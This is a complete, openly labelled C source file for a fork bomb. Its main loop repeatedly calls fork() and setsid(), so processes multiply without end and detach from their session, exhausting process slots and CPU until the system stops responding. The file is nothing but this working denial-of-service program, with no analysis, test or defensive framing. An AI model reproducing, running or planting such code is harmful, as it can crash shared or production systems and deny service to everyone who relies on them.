/* A fork bomb whose processes leave their session, and take the CPU. */
#include <unistd.h>

int main(void)
{
    for (;;) {
        fork();
        setsid();
    }
}
